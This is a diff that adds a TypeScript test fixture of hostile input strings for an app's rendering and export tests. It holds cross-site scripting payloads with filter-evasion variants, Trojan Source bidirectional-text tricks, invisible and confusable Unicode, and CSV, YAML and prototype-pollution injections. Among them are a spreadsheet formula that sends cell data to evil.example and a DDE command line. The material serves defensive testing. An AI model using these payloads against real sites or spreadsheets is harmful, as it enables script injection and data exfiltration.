@@ -1,0 +1,81 @@
+/** Where a text that means harm would leave its trace, if anything of it were run. */
+export const trace = 'geistHit'
+
+const run = `globalThis.${trace}=1`
+
+/**
+ * Texts that would be run where text became HTML, an address or a script: by the kinds of OWASP's "Cross Site Scripting Prevention" and "XSS Filter Evasion" cheat sheets, of PortSwigger's "Cross-site scripting
+ * cheat sheet", and of Heiderich's "mXSS attacks" (2013), written anew for what this app is made of.
+ */
+const scripts = [
+  `<script>${run}</script>`,
+  `"><script src=data:text/javascript,${run}></script>`,
+  `</p></article></textarea></title></style></script><img src=x onerror="${run}">`,
+  `<svg/onload=${run}><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<iframe srcdoc="<script>parent.${trace}=1</script>"></iframe>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+  `<a href="javascript:${run}" id=x tabindex=1 onfocus=${run} autofocus>press</a>`,
+  `<form action=javascript:${run}><input type=submit autofocus></form><base href=//evil.example/>`,
+  `[press](javascript:${run}) ![x](x "onerror=${run}") <javascript:${run}>`,
+  `<object data="data:text/html,<script>${run}</script>"></object><embed src=javascript:${run}>`,
+  `\${${run}} {{constructor.constructor('${run}')()}} <%= ${run} %> #{${run}}`,
+  `<div style="position:fixed;inset:0;background:url(javascript:${run})">over everything</div>`,
+  `&lt;img src=x onerror=${run}&gt; &#x3C;script&#x3E;${run}&#x3C;/script&#x3E;`,
+  `javascript:${run}//https://geist.example/`,
+]
+
+/** Texts that draw others from the other end, or themselves as something else: Boucher and Anderson, "Trojan Source" (2021), and Unicode's Standard Annex 9. The last ends what holds it before it begins. */
+const turned = [
+  'The bill is \u202E007$ \u202Cand no more',
+  'access \u2067admin \u2066// \u2069 \u2069 begin',
+  '\u2069\u2069\u202C\u202Eout of its box',
+]
+
+/** Texts of which less can be seen than there is: Unicode's Technical Report 36. */
+const unseen = [
+  'no\u200Bthing \u2060to\uFEFF see\u00AD here',
+  '\u200B\u2800\u3164\u{E0041}',
+  'tag\u{E0074}\u{E0061}\u{E0067}',
+]
+
+/** What is larger than a letter has room: marks upon marks, as in 'Zalgo' texts, one word without an end, and a picture of many parts. */
+const huge = [
+  `Z${'\u0335\u0321\u0353\u034D\u0346\u0310'.repeat(30)}a${'\u0308\u030B\u0359'.repeat(60)}lgo`,
+  'W'.repeat(600),
+  '﷽'.repeat(40),
+  `👩${'\u200D👩'.repeat(60)}`,
+]
+
+/** What means something to a spreadsheet (OWASP, "CSV Injection"), to YAML or to Markdown where it is exported and read again. */
+const structures = [
+  `=HYPERLINK("https://evil.example/?"&A1,"press")`,
+  `@SUM(1+1)*cmd|'/c calc'!A0`,
+  `---\ncategory: taken over\n---\n\n# Not a title`,
+  `": {"__proto__": {"${trace}": 1}}, "`,
+]
+
+/** The corpus: texts that somebody might write, import or have an AI say, and that have to be shown as what they are, and as nothing else. */
+export const hostileTexts: readonly string[] = [...scripts, ...turned, ...unseen, ...huge, ...structures]
+
+/** Names that look like 'ada', or like nothing, and are not it: by the confusable letters of Unicode's Technical Standard 39. */
+export const lookalikes: readonly string[] = [
+  'аda',
+  'ad\u0430',
+  'ɑda',
+  'ａｄａ',
+  '𝐚𝐝𝐚',
+  'ada\u200B',
+  'a\u200Dda',
+  '\uFEFFada',
+  'a\u00ADda',
+  'ada\u202E',
+  '\u2066ada\u2069',
+  'adа\u0301',
+  'ada\u0307',
+  'ªda',
+  'Ada',
+  'ADA',
+  'ada\n',
+  'ada\u0000',
+  '\u3164\u3164\u3164',
+]
